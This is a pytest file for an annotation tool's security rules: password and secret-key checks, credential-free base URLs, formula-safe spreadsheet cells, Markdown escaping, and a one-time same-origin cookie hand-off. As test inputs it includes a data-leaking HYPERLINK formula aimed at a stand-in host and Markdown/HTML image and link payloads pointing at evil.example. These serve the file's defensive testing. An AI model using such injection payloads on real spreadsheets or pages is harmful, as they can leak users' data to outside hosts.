"""Pure rules of the hardening work: the password rule, the secret-key rule, credentials in base URLs,
spreadsheet-safe cells, Markdown escaping of user text, the one-time cookie hand-off, loopback hosts."""

from __future__ import annotations

import re
import secrets

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotator.config import base_url_problem, redact_url, secret_key_problem
from annotator.services.password_policy import password_problem
from annotator.spreadsheet import FORMULA_PREFIXES, safe_cell, safe_frame


# --- passwords ------------------------------------------------------------------------------------

@pytest.mark.parametrize("password, username, problem", [
    (None, "ana", "a password is required"),
    ("", "ana", "a password is required"),
    ("short", "ana", "at least 8 characters"),
    ("aaaaaaaaaaaa", "ana", "at least four different characters"),
    ("12345678", "ana", "most common passwords"),
    ("PassWord1", "ana", "most common passwords"),
    ("password-1", "ana", "most common passwords"),
    ("qwerty123", "ana", "most common passwords"),
    ("Hospital2026!", "ana", "common word"),
    ("welcome#2027", "ana", "common word"),
    ("!!September99", "ana", "common word"),
    ("margaret1975", "margaret", "must not contain the username"),
    ("x-j.smith-x99", "j.smith@hospital.example", "must not contain the username"),
    ("bad\x00password", "ana", "NUL"),
])
def test_weak_passwords_are_refused_with_the_reason(password, username, problem):
    assert problem in (password_problem(password, username) or "")


@pytest.mark.parametrize("password", ["correct horse battery", "violet-harbour-7", "Tq9#mZ2!vL", "lumen-quartz-88"])
def test_reasonable_passwords_pass(password):
    assert password_problem(password, "ana") is None


# --- the session secret -----------------------------------------------------------------------------

@pytest.mark.parametrize("key, problem", [
    ("", "not set"),
    ("short", "too short"),
    ("demo-only-secret-do-not-use-in-production", "too short"),
    ("change-me-please-change-me-please-change-me-please", "placeholder"),
    ("your-secret-key-goes-here-and-it-is-long-enough-now", "placeholder"),
    ("a" * 64, "not random enough"),
    ("abababababababababababababababababababababababab", "not random enough"),
])
def test_weak_or_placeholder_secret_keys_are_refused(key, problem):
    assert problem in (secret_key_problem(key) or "")


def test_random_secret_keys_are_accepted():
    for _ in range(200):
        assert secret_key_problem(secrets.token_urlsafe(32)) is None
        assert secret_key_problem(secrets.token_hex(32)) is None


def test_the_settings_refuse_to_sign_with_a_weak_key(monkeypatch, tmp_path):
    from annotator.config import get_settings
    from annotator.errors import InvalidInput

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ANNOTATOR_SECRET_KEY", "short")
    with pytest.raises(InvalidInput, match="too short"):
        get_settings().signing_key()
    key = secrets.token_urlsafe(48)
    monkeypatch.setenv("ANNOTATOR_SECRET_KEY", key)
    assert get_settings().signing_key() == key
    assert key not in repr(get_settings())


def test_demo_mode_is_not_a_setting(monkeypatch, tmp_path):
    """ANNOTATOR_DEMO in the environment (or .env) used to switch on demo mode and its known secret."""
    from annotator.config import Settings, get_settings
    from annotator.errors import InvalidInput

    monkeypatch.chdir(tmp_path)
    (tmp_path / ".env").write_text("ANNOTATOR_DEMO=1\n", encoding="utf-8")
    monkeypatch.setenv("ANNOTATOR_DEMO", "1")
    monkeypatch.delenv("ANNOTATOR_SECRET_KEY", raising=False)
    assert "demo" not in Settings.model_fields
    with pytest.raises(InvalidInput, match="ANNOTATOR_SECRET_KEY is not set"):
        get_settings().signing_key()


# --- base URLs ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("url", ["http://user:pw@gpu-box:8000/v1", "https://key@host/v1", "http://h/v1?api-key=abc",
                                 "http://h/v1?token=abc", "http://h/v1?sig=x&x=1"])
def test_base_urls_with_credentials_are_refused(url):
    assert base_url_problem(url)


@pytest.mark.parametrize("url", [None, "", "http://127.0.0.1:8000/v1", "https://RESOURCE.openai.azure.com",
                                 "http://[::1]:8000/v1", "http://h/v1?api-version=2024-10-21"])
def test_plain_base_urls_are_fine(url):
    assert base_url_problem(url) is None


def test_redacted_urls_keep_only_scheme_host_port_and_path():
    assert redact_url("http://user:pw@gpu-box:8000/v1?key=1#x") == "http://gpu-box:8000/v1"
    assert redact_url("http://[::1]:8000/v1") == "http://[::1]:8000/v1"
    assert redact_url(None) is None


# --- spreadsheet-safe cells --------------------------------------------------------------------------

def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers():
    df = pd.DataFrame({"note": ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)", "\t=1",
                                "\r=1", "fine", None],
                       "n": [-3, 1, 2, 3, 4, 5, 6, 7], "=col": ["a"] * 8})
    out = safe_frame(df)
    assert list(out["note"][:6]) == ["'" + v for v in df["note"][:6]]
    assert out["note"][6] == "fine" and pd.isna(out["note"][7])
    assert list(out["n"]) == list(df["n"]) and out["n"].dtype == df["n"].dtype
    assert list(out.columns) == ["note", "n", "'=col"]
    assert list(df["note"][:1]) == ['=HYPERLINK("http://x.example/?"&A1,"x")']  # the input is not changed
    assert safe_cell(None) == "" and safe_cell(-1) == -1 and safe_cell("=1") == "'=1"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_no_text_cell_of_a_safe_frame_starts_a_formula(values):
    out = safe_frame(pd.DataFrame({"v": values, "c": pd.Categorical(values)}))
    for col in ("v", "c"):
        for cell in out[col]:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES))
            assert cell in values or (cell.startswith("'") and cell[1:] in values)


# --- Markdown escaping -------------------------------------------------------------------------------

PAYLOADS = ["![x](http://127.0.0.1:9/leak.png)", "[x](http://evil.example)", "<img src=http://evil.example/x>",
            "<http://evil.example>", "http://evil.example/x.png", ":red[alert]", "`code`", "**bold** _em_",
            "# Heading", "- item", "1. item", "> quote", "$x^2$", "~~gone~~", "a | b"]


def _unescaped(text: str, char: str) -> list[int]:
    """Positions of `char` in `text` that no backslash escapes."""
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        if text[i] == char:
            out.append(i)
        i += 1
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escaped_text_forms_no_markdown_structure(payload):
    from annotator.ui import esc

    text = esc(payload)
    for char in "[]<>`*$~|":
        assert not _unescaped(text, char), (payload, text)
    assert "://" not in text
    assert not re.match(r"\s*([#>+=-]|\d+[.)])", text)
    assert re.sub(r"\\(.)", r"\1", text) == payload  # unescaping gives back exactly what was typed


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_escaping_any_text_keeps_its_characters_and_never_opens_a_link(value):
    from annotator.ui import esc

    text = esc(value)
    assert "\n" not in text and "\r" not in text
    assert not _unescaped(text, "[") and not _unescaped(text, "<")
    assert re.sub(r"\\(.)", r"\1", text) == re.sub(r"[\r\n\t]+", " ", value)


# --- the cookie hand-off -----------------------------------------------------------------------------

def test_a_hand_off_code_gives_its_token_once_and_expires():
    from annotator import webauth

    code = webauth.hand_off("token-1", max_age=60, now=100.0)
    assert webauth.take("wrong", now=100.0) is None
    got = webauth.take(code, now=101.0)
    assert got is not None and got.token == "token-1" and got.max_age == 60
    assert webauth.take(code, now=101.0) is None  # used
    late = webauth.hand_off("token-2", max_age=60, now=100.0)
    assert webauth.take(late, now=100.0 + webauth.CODE_SECONDS + 1) is None  # expired
    assert webauth.route_path("") == "/_annotator/session" and webauth.route_path("/tool/") == "/tool/_annotator/session"


@pytest.mark.parametrize("host, loopback", [("127.0.0.1", True), ("localhost", True), ("::1", True), ("[::1]", True),
                                            ("127.0.0.2", True), ("0.0.0.0", False), ("10.1.2.3", False),
                                            ("annotator.hospital.example", False), ("::", False)])
def test_only_loopback_hosts_count_as_this_computer(host, loopback):
    from annotator.cli import _is_loopback

    assert _is_loopback(host) is loopback


def test_the_shipped_streamlit_config_shows_no_error_details():
    import tomllib
    from pathlib import Path

    import annotator

    config = tomllib.loads((Path(annotator.__file__).parent / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"


def test_the_cookie_route_sets_an_http_only_cookie_for_same_origin_requests_only():
    from starlette.applications import Starlette
    from starlette.testclient import TestClient

    from annotator import webauth

    client = TestClient(Starlette(routes=webauth.routes()), base_url="http://app.hospital.example")
    same = {"Origin": "http://app.hospital.example", webauth.HEADER: "1"}
    code = webauth.hand_off("signed-token", max_age=3600)
    assert client.post("/_annotator/session", content=code).status_code == 403  # no header
    assert client.post("/_annotator/session", content=code,
                       headers={"Origin": "http://evil.example", webauth.HEADER: "1"}).status_code == 403
    res = client.post("/_annotator/session", content=code, headers=same)
    assert res.status_code == 204
    cookie = res.headers["set-cookie"]
    assert cookie.startswith(f"{webauth.COOKIE}=signed-token;")
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Max-Age=3600" in cookie and "Path=/" in cookie
    assert "Secure" not in cookie
    assert client.post("/_annotator/session", content=code, headers=same).status_code == 404  # one use only
    behind_tls = webauth.hand_off("signed-token", max_age=60)
    res = client.post("/_annotator/session", content=behind_tls, headers={**same, "X-Forwarded-Proto": "https"})
    assert "Secure" in res.headers["set-cookie"]
    res = client.delete("/_annotator/session", headers=same)
    assert res.status_code == 204 and 'annotator_session=""' in res.headers["set-cookie"]
